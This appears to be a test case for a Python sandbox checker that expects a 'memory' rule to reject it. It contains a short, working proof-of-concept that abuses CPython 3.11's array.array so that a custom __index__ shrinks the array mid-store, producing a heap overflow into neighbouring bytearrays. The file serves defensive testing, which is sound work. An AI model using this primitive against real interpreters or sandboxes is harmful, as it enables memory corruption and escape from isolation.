# expect: reject memory
# verified: reaches its goal under plain python3 (3.11) in a temp dir, and under the image's python3.11 (3.11.2) with the same output
# Mechanism: array.array's stores (a[i] = v, insert, append, extend) fix the place they write,
#   then convert the value with the number protocol (__index__, __float__); CPython 3.11 does
#   not look at the array again, so a conversion that shrinks the array (its item buffer
#   moves to a small block) makes the store write past the new buffer, into the blocks
#   next to it: here the buffers of bytearrays the conversion allocated.
# This member: a[i] = v: the value's __index__ shrinks the array after the store fixed its index.
# Goal reached: a byte written into another object's memory (a heap overflow of chosen offset
#   and value, the primitive the gh-120384 attacks build arbitrary read/write on)
# Checker before the memory rule: build/safe-exec-check --rules rules FILE -> exit 0 (accepted)
# Output seen under python3 (3.11.7), run in a throw-away temp dir:
#   | array length now: 1
#   | bytearrays the array wrote into: 1 [b'\x00\x00\x00\x00A\x00\x00']
# line: 22
import array

found = []


class Index:
    def __index__(self):
        del a[1:]                 # the item buffer moves to a small block
        for _ in range(64):
            found.append(bytearray(7))   # small buffers of ours, next to it
        return 65


a = array.array("b", bytes(200))
a[100] = Index()                  # written 100 bytes past the array's new buffer

hits = [bytes(b) for b in found if any(b)]
print("array length now:", len(a))
print("bytearrays the array wrote into:", len(hits), hits[:2])
